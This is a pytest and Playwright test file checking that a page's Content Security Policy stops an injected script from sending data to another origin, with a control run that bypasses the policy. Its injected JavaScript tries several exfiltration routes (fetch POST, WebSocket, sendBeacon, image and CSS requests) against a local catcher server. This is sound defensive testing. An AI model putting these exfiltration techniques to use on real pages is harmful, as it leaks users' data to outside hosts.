"""The page's Content Security Policy stops a script injected into it from sending data out."""
import http.server
import threading

import pytest


class Catcher(http.server.BaseHTTPRequestHandler):
    hits = []

    def _hit(self):
        Catcher.hits.append((self.command, self.path))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = _hit

    def log_message(self, *args):
        pass


@pytest.fixture
def other_origin():
    """A server on another origin (127.0.0.1, another port) that counts what reaches it."""
    Catcher.hits = []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Catcher)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield "127.0.0.1:%d" % httpd.server_port
    httpd.shutdown()


INJECTED = """async (other) => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  const outcome = {};
  try {
    await fetch("http://" + other + "/fetch", {method: "POST", body: "secret", mode: "no-cors"});
    outcome.fetch = "sent";
  } catch (e) { outcome.fetch = "blocked"; }
  outcome.ws = await new Promise((resolve) => {
    try {
      const ws = new WebSocket("ws://" + other + "/ws");
      ws.onopen = () => resolve("open");
      ws.onerror = () => resolve("blocked");
      ws.onclose = () => resolve("blocked");
    } catch (e) { resolve("blocked"); }
  });
  try {
    outcome.beacon = navigator.sendBeacon("http://" + other + "/beacon", "secret") ? "queued" : "blocked";
  } catch (e) { outcome.beacon = "blocked"; }
  await new Promise((resolve) => {
    const img = new Image();
    img.onload = img.onerror = resolve;
    img.src = "http://" + other + "/img?secret";
  });
  const script = document.createElement("script");
  script.textContent = "window.__injected = true";
  document.body.append(script);
  const style = document.createElement("style");
  style.textContent = "body { background: url(http://" + other + "/css) }";
  document.head.append(style);
  await new Promise((r) => setTimeout(r, 500));
  outcome.inlineScript = window.__injected === true ? "ran" : "blocked";
  outcome.violations = violations;
  return outcome;
}"""


def test_injected_script_cannot_send_data_elsewhere(phone, server, other_origin):
    context, recorder = phone
    page = context.new_page()
    page.goto("/")
    outcome = page.evaluate(INJECTED, other_origin)
    assert outcome["fetch"] == "blocked"
    assert outcome["ws"] == "blocked"
    # sendBeacon only queues (it returns true); the policy stops the send itself, below.
    assert outcome["inlineScript"] == "blocked"
    assert {"connect-src", "img-src", "script-src-elem"} <= set(outcome["violations"]), outcome
    page.wait_for_timeout(500)
    assert Catcher.hits == []  # the proof: nothing reached the other origin


def test_the_other_origin_is_reachable_without_the_policy(browser, playwright, server, other_origin):
    """The control: with CSP bypassed the same script does reach the other server, so the test above can fail."""
    from .conftest import new_context

    context, _ = new_context(browser, playwright, server, bypass_csp=True)
    page = context.new_page()
    page.goto("/")
    outcome = page.evaluate(INJECTED, other_origin)
    context.close()
    assert outcome["fetch"] == "sent"
    assert ("POST", "/fetch") in Catcher.hits
